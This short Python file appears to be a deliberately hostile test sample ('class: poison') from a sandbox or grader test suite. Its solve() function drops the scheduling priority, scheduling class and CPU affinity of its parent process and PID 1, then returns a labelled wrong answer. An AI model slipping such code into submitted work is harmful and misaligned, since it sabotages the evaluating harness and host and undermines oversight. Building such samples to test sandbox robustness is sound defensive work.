"""Makes its parent and pid 1 as unimportant as can be: nice 19, idle scheduling, a single core."""
# kind: call
# class: poison
# may: WRONG
# danger: slows down whatever process started it
import os
from contextlib import suppress


def solve(n):
    for pid in (os.getppid(), 1):
        with suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, pid, 19)
        with suppress(OSError):
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
        with suppress(OSError):
            os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})
    return 0
